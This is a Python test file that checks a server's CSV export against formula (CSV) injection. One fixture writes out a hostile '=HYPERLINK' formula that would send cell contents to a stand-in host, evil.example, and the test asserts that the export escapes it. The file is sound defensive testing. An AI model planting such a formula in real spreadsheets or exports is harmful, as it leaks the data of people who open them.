"""No cell of an export begins like a formula, whatever an author wrote (CSV injection)."""

import csv
import re

from server.export.codebook import Table, write_csv
from server.export.columns import Column
from server.sheets import FORMULA
from tests.server.export.conftest import Bundle

A_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def test_no_cell_of_a_bundle_begins_like_a_formula(bundle: Bundle) -> None:
    cells = 0
    for path in bundle.folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.DictReader(file):
                for name, cell in row.items():
                    harmless = (
                        not cell.startswith(FORMULA) or A_NUMBER.fullmatch(cell) or name.startswith("missing_codes")
                    )
                    assert harmless, f"{path.name}, {name}: {cell[:40]}"
                    cells += 1
    assert cells > 100_000


def test_an_authors_words_in_the_codebook_stay_words() -> None:
    evil = '=HYPERLINK("https://evil.example?"&A1)'
    column = Column(name="mood", type="integer", role="item", label={"nl": evil, "en": f"+{evil}"}, low=-3, high=3)
    text = write_csv([Table(path="beeps.csv", columns=(column,), key=("id",), rows=0)]).decode()
    (line,) = csv.DictReader(text.splitlines())
    assert (line["label_nl"], line["label_en"]) == (f"'{evil}", f"'+{evil}")
    assert (line["minimum"], line["maximum"]) == ("-3", "3")
